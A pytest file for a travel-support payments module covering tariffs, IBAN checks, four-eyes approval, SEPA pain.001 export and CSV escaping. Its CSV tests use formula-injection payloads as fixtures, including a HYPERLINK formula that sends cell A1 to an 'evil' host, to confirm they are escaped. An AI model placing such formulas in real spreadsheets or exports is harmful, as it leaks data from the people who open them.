"""Pure rules of travel support: tariffs in whole cents, IBAN checks, four eyes, the
pain.001 file against its XSD, and CSV cells that cannot become formulas."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from lxml import etree

from returnprog import export, payments
from returnprog.policy import DEFAULT_POLICY, Tariff, load_policy


# --- tariffs --------------------------------------------------------------------------------

def test_the_household_amount_is_adults_times_adult_tariff_plus_minors_times_minor_tariff():
    q = payments.quote(DEFAULT_POLICY, adults=2, minors=3, on=dt.date(2026, 6, 1))
    assert q.amount_cents == 2 * 150_000 + 3 * 75_000
    assert isinstance(q.amount_cents, int)
    b = q.breakdown()
    assert b == {"adults": 2, "adult_cents": 150_000, "adults_cents": 300_000,
                 "minors": 3, "minor_cents": 75_000, "minors_cents": 225_000,
                 "tariff_effective_from": "2026-01-01", "amount_cents": 525_000,
                 "tariff_label": q.tariff_label}
    assert "EXAMPLE" in b["tariff_label"]


def test_the_tariff_in_force_is_the_latest_one_whose_date_has_come():
    assert payments.quote(DEFAULT_POLICY, 1, 0, dt.date(2026, 12, 31)).adult_cents == 150_000
    assert payments.quote(DEFAULT_POLICY, 1, 0, dt.date(2027, 1, 1)).adult_cents == 160_000
    assert payments.quote(DEFAULT_POLICY, 1, 0, dt.date(2025, 12, 31)) is None


def test_an_operator_tariff_override_is_used_and_stays_in_cents():
    policy = load_policy({"tariffs": [{"effective_from": "2026-03-01", "adult_cents": 123_45,
                                       "minor_cents": 1, "label": "ministerial decision X"}]})
    assert policy.tariffs == (Tariff(dt.date(2026, 3, 1), 12345, 1, "ministerial decision X"),)
    assert payments.quote(policy, 3, 1, dt.date(2026, 3, 1)).amount_cents == 3 * 12345 + 1


def test_a_negative_household_is_a_programming_error():
    with pytest.raises(ValueError):
        payments.quote(DEFAULT_POLICY, -1, 0, dt.date(2026, 6, 1))


@pytest.mark.parametrize("cents,text", [(0, "0.00"), (5, "0.05"), (99, "0.99"), (100, "1.00"),
                                        (150_000, "1500.00"), (123_456_789, "1234567.89"),
                                        (-150, "-1.50")])
def test_cents_are_written_as_decimal_text_without_floats(cents, text):
    assert payments.format_cents(cents) == text


@pytest.mark.parametrize("bad", [1.5, 150000.0, "100", True])
def test_only_whole_cents_are_amounts(bad):
    with pytest.raises(TypeError):
        payments.format_cents(bad)


# --- IBAN -------------------------------------------------------------------------------------

@pytest.mark.parametrize("raw,compact", [
    ("NL91ABNA0417164300", "NL91ABNA0417164300"),                       # Dutch
    ("NL20INGB0001234567", "NL20INGB0001234567"),
    ("UA213223130000026007233566001", "UA213223130000026007233566001"),  # Ukrainian (29 chars)
    ("nl91 abna 0417 1643 00", "NL91ABNA0417164300"),                   # spaces, lower case
    ("  ua21 3223 1300 0002 6007 2335 6600 1 ", "UA213223130000026007233566001"),
    ("NL91\u00a0ABNA\u00a00417\u00a01643\u00a000", "NL91ABNA0417164300"),  # no-break spaces
    ("DE89 3704 0044 0532 0130 00", "DE89370400440532013000"),
])
def test_valid_ibans_are_accepted_and_normalised(raw, compact):
    assert payments.iban_check(raw) == (compact, None)


@pytest.mark.parametrize("raw,words", [
    ("NL92ABNA0417164300", "check digits"),               # wrong checksum
    ("NL91ABNA0417164301", "check digits"),               # one digit mistyped
    ("UA213223130000026007233566002", "check digits"),
    ("NL91ABNA041716430", "wrong length"),                # one short
    ("NL91ABNA04171643001", "wrong length"),              # one long
    ("UA21322313000002600723356600", "wrong length"),
    ("QQ91ABNA0417164300", "not a known country"),
    ("NL91-ABNA-0417-1643-00", "only letters and digits"),
    ("NL91ABNA041716430X", "only letters and digits"),
    ("", "required"),
    (None, "required"),
])
def test_invalid_ibans_are_refused_with_a_reason_a_counsellor_understands(raw, words):
    _, problem = payments.iban_check(raw)
    assert problem is not None and words in problem


def test_sepa_zone_is_told_apart():
    assert payments.is_sepa_iban("NL91ABNA0417164300")
    assert not payments.is_sepa_iban("UA213223130000026007233566001")


def test_ibans_are_masked_in_lists():
    assert payments.mask_iban("NL91ABNA0417164300") == "NL** **** 4300"
    assert payments.mask_iban(None) is None


def test_a_transfer_needs_a_valid_iban_and_an_account_holder():
    assert payments.method_problems("transfer", "NL91ABNA0417164300", "Olena K") == {}
    assert set(payments.method_problems("transfer", None, None)) == {"iban", "account_holder"}
    assert set(payments.method_problems("transfer", "NL91ABNA0417164300", "  ")) == {"account_holder"}
    assert set(payments.method_problems("transfer", "NL92ABNA0417164300", "O")) == {"iban"}


def test_cash_and_card_take_no_bank_details():
    assert payments.method_problems("cash", None, None) == {}
    assert payments.method_problems("card", "", " ") == {}
    assert set(payments.method_problems("cash", "NL91ABNA0417164300", "X")) == {"iban",
                                                                               "account_holder"}
    assert set(payments.method_problems("cheque", None, None)) == {"method"}


# --- four eyes ------------------------------------------------------------------------------------

ROLES = ("counsellor", "supervisor", "finance", "admin")


@pytest.mark.parametrize("role", ROLES)
def test_nobody_decides_on_their_own_proposal_whatever_their_role(role):
    assert "four eyes" in payments.decision_problem(role, actor_id=7, proposed_by=7)


@pytest.mark.parametrize("role", ROLES)
def test_only_a_supervisor_decides_on_someone_elses_proposal(role):
    problem = payments.decision_problem(role, actor_id=8, proposed_by=7)
    assert (problem is None) == (role == "supervisor")


def test_the_one_who_pays_out_neither_proposed_nor_approved():
    assert payments.disbursement_problem(9, proposed_by=7, approved_by=8) is None
    assert payments.disbursement_problem(7, proposed_by=7, approved_by=8)
    assert payments.disbursement_problem(8, proposed_by=7, approved_by=8)


def test_a_reclaim_is_at_most_what_was_paid_and_dated_after_departure():
    today, left = dt.date(2026, 6, 10), dt.date(2026, 6, 1)
    assert payments.reclaim_problems(100, 100, today, left, today) == {}
    assert payments.reclaim_problems(0, 100, left, left, today) == {}
    assert set(payments.reclaim_problems(101, 100, today, left, today)) == {"reclaim_cents"}
    assert set(payments.reclaim_problems(-1, 100, today, left, today)) == {"reclaim_cents"}
    assert set(payments.reclaim_problems(1, 100, today + dt.timedelta(days=1), left,
                                         today)) == {"reentry_on"}
    assert set(payments.reclaim_problems(1, 100, left - dt.timedelta(days=1), left,
                                         today)) == {"reentry_on"}


# --- pain.001 --------------------------------------------------------------------------------------

def _lines():
    return [export.Line(1, "VRP-2026-000001", "Олена Коваленко", "NL91ABNA0417164300", 375_000,
                        "EUR", "approved"),
            export.Line(2, "VRP-2026-000002", "=HYPERLINK(\"http://x\")", "DE89370400440532013000",
                        150_001, "EUR", "disbursed")]


NS = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"}


def test_the_sepa_file_validates_against_the_pain001_xsd_that_sepaxml_ships():
    xml = export.sepa_pain001(_lines(), export.EXAMPLE_DEBTOR, msg_id="RETURNPROG-7",
                              execution_date=dt.date(2026, 6, 1))
    xsd_file = export.xsd_path()
    assert xsd_file.name == "pain.001.001.09.xsd" and xsd_file.exists()
    # An independent validator (lxml/libxml2) as well as xmlschema inside the export.
    schema = etree.XMLSchema(etree.parse(str(xsd_file)))
    doc = etree.fromstring(xml)
    assert schema.validate(doc), schema.error_log
    assert export.validate_pain001(xml) == []
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:MsgId", namespaces=NS) == "RETURNPROG-7"
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:NbOfTxs", namespaces=NS) == "2"
    assert doc.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CtrlSum", namespaces=NS) == "5250.01"
    amounts = [e.text for e in doc.iterfind(".//p:InstdAmt", NS)]
    assert amounts == ["3750.00", "1500.01"]
    names = [e.text for e in doc.iterfind(".//p:Cdtr/p:Nm", NS)]
    assert names == ["Olena Kovalenko", "HYPERLINK( http://x )"]  # SEPA basic Latin only
    assert [e.text for e in doc.iterfind(".//p:EndToEndId", NS)] == ["VRP-2026-000001-P1",
                                                                     "VRP-2026-000002-P2"]


def test_a_file_that_breaks_the_schema_is_caught():
    xml = export.sepa_pain001(_lines(), export.EXAMPLE_DEBTOR, msg_id="M",
                              execution_date=dt.date(2026, 6, 1))
    broken = xml.replace(b"<CtrlSum>5250.01</CtrlSum>", b"<CtrlSum>lots</CtrlSum>", 1)
    assert export.validate_pain001(broken)


def test_a_holder_name_without_readable_letters_is_refused_for_sepa():
    line = export.Line(3, "VRP-2026-000003", "😀", "NL91ABNA0417164300", 100, "EUR", "approved")
    with pytest.raises(export.ExportError) as err:
        export.sepa_pain001([line], export.EXAMPLE_DEBTOR, msg_id="M",
                            execution_date=dt.date(2026, 6, 1))
    assert err.value.problems[0]["code"] == "account_holder"


# --- CSV ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value,escaped", [
    ("=1+1", "'=1+1"), ("+31 6 1234", "'+31 6 1234"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"),
    ("  =1+1", "'  =1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("Olena", "Olena"), ("Коваленко", "Коваленко"), ("1500.00", "1500.00"), ("", ""),
    (None, ""), (42, "42"), ("a=b", "a=b"), ("O'Brien", "O'Brien"),
])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(value, escaped):
    assert export.escape_cell(value) == escaped


def test_the_csv_export_escapes_every_text_cell_and_keeps_amounts_exact():
    evil = export.Line(9, "VRP-2026-000009", '=HYPERLINK("http://evil/?"&A1,"click")',
                       "NL91ABNA0417164300", 150_000, "EUR", "approved",
                       approved_at=dt.datetime(2026, 6, 1, 12, tzinfo=dt.timezone.utc))
    data = export.csv_export(_lines() + [evil])
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets show Cyrillic right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == list(export.CSV_COLUMNS)
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_id["1"]["account_holder"] == "Олена Коваленко"
    assert by_id["2"]["account_holder"] == "'=HYPERLINK(\"http://x\")"
    assert by_id["9"]["account_holder"].startswith("'=")
    assert by_id["2"]["amount"] == "1500.01" and by_id["2"]["amount_cents"] == "150001"
    assert by_id["9"]["approved_at"] == "2026-06-01T12:00:00+00:00"
    for row in rows[1:]:
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in row)
    assert b"\r\n" in data and data.count(b'"') % 2 == 0


@pytest.mark.filterwarnings("ignore:.*has already been added to the spec")
def test_the_openapi_document_lists_the_payment_routes():
    from returnprog.web.api.openapi import build_spec

    doc = build_spec().to_dict()
    for path in ("/api/v1/cases/{reference}/payment", "/api/v1/cases/{reference}/payment/approve",
                 "/api/v1/cases/{reference}/payment/reject", "/api/v1/cases/{reference}/payment/cancel",
                 "/api/v1/cases/{reference}/payment/reentry", "/api/v1/payments", "/api/v1/exports",
                 "/api/v1/exports/{batch_id}"):
        assert path in doc["paths"], path
    assert "ProposePayment" in doc["components"]["schemas"]
